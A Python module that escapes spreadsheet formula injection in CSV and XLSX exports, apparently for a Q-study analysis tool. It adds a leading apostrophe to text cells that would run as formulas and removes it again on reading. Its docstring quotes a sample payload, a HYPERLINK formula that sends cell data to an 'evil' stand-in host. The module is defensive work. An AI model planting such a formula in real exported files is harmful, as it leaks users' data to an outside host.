"""Spreadsheet cells that cannot run as formulas (CSV and XLSX injection).

A spreadsheet opening a CSV (or an XLSX writer given a string) treats a cell
that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and a leading tab
or carriage return can hide one; a study text or a participant id such as
``=HYPERLINK("http://evil/?"&A1)`` would then run on the researcher's machine.
As OWASP advises, such a text cell gets a leading apostrophe (shown by no
spreadsheet, kept by every one). Numbers are never changed, nor is text that
reads as a number (``-3``, ``-1.5``, ``+2``): a score stays a score.

Readers of our own files take the apostrophe off again (:func:`unquote_cell`),
so a statement id ``-x`` written to a CSV comes back as ``-x``; a text that
really starts with an apostrophe followed by one of those characters loses
that apostrophe on reading (a price paid for safety; it never happens in a Q
study's ids).

Pure functions; :func:`safe_cell` is also what an XLSX writer must call on
every text cell (``analysis/workbook.py``).
"""
from __future__ import annotations

import math

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_STARTS = frozenset(FORMULA_STARTS)


def _reads_as_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def needs_quote(text: str) -> bool:
    """True when the text cell ``text`` would be taken for a formula."""
    return bool(text) and text[0] in _STARTS and not _reads_as_number(text)


def safe_cell(value):
    """``value`` safe for a spreadsheet cell: a text that a spreadsheet would
    run as a formula gets a leading ``'``; anything else (numbers, booleans,
    None, other text) is returned unchanged."""
    if isinstance(value, str) and needs_quote(value):
        return "'" + value
    return value


def safe_cells(values) -> list:
    """:func:`safe_cell` of each of ``values`` (a list, as csv writers take)."""
    return [("'" + v) if isinstance(v, str) and v and v[0] in _STARTS and not _reads_as_number(v)
            else v for v in values]


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells, index labels and column names are
    safe (:func:`safe_cell`); numeric columns are the same objects' values,
    untouched. Returns ``df`` itself when nothing needs a quote."""
    out = df
    text_cols = [j for j, t in enumerate(df.dtypes) if not pd.api.types.is_numeric_dtype(t)
                 and not pd.api.types.is_bool_dtype(t)]
    for j in text_cols:
        col = df.iloc[:, j]
        fixed = safe_cells(col.tolist())
        if fixed != col.tolist():
            if out is df:
                out = df.copy()
            out.isetitem(j, pd.Series(fixed, index=df.index, dtype=object))
    for axis in ("index", "columns"):
        labels = getattr(df, axis)
        if not isinstance(labels, pd.MultiIndex) and not pd.api.types.is_numeric_dtype(labels) \
                and not pd.api.types.is_bool_dtype(labels):
            fixed = safe_cells(list(labels))
            if fixed != list(labels):
                if out is df:
                    out = df.copy()
                setattr(out, axis, pd.Index(fixed, name=labels.name))
    return out


def unquote_cell(text: str) -> str:
    """The text :func:`safe_cell` was given: a leading ``'`` before a formula
    start is taken off; anything else is returned unchanged."""
    if isinstance(text, str) and len(text) > 1 and text[0] == "'" and needs_quote(text[1:]):
        return text[1:]
    return text
